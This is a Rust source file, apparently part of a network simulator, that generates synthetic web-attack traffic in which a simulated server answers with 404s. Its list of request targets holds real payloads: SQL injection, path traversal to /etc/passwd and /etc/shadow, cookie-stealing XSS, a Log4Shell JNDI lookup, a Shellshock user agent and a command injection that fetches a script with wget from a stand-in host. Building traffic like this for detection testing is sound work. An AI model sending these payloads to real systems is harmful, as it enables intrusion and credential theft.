//! Web attacks that show in the request: injection, traversal, command execution, and the like.

use super::target::{Attacker, repeat, web_victim};
use super::{Launch, Origin, Stage};
use crate::actor::{MILLI, SECOND};
use crate::build::http;
use crate::session::{Road, Side, Step, TcpSession};
use crate::world::LINUX;

/// Request targets, one attack each.
const TARGETS: [&str; 12] = [
    "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=1'%20OR%20'1'='1",
    "/download?file=../../../../etc/passwd",
    "/cgi-bin/test.cgi?cmd=/bin/cat%20/etc/shadow",
    "/search?q=<script>alert(document.cookie)</script>",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/ping?host=127.0.0.1;wget%20http://203.0.113.66/x.sh",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/shell.php?cmd=whoami",
    "/api?x=${jndi:ldap://203.0.113.66:1389/a}",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
];

/// Each target once in turn, 36 requests over as many connections.
pub(super) fn start(stage: &mut Stage) -> Vec<Launch> {
    let attacker = Attacker::of(stage, Origin::Outside);
    let victim = web_victim(stage, 80);
    let act = repeat(stage.rng, 36, SECOND, move |cx, rng, index| {
        let target = TARGETS[index as usize % TARGETS.len()];
        let agent = if index % 3 == 0 {
            "() { :;}; /bin/bash -c 'id'"
        } else {
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
        };
        let script = vec![
            Step::Send(Side::Client, http::get("www.office.example", target, agent)),
            Step::Wait(4 * MILLI),
            Step::Send(
                Side::Server,
                http::response("404 Not Found", "text/plain", "no such page\n"),
            ),
            Step::Close(Side::Client),
        ];
        let from = attacker.peer.port(40_000 + index as u16);
        let road = Road { rtt: attacker.rtt, ..Road::LAN };
        let ends = ((from, attacker.stack), (victim, LINUX));
        cx.spawn(0, TcpSession::new(ends.0, ends.1, road, script, rng.fork()));
    });
    vec![Launch::new(&attacker.peer.ip, &victim.ip, "36 requests, 12 patterns", act)]
}
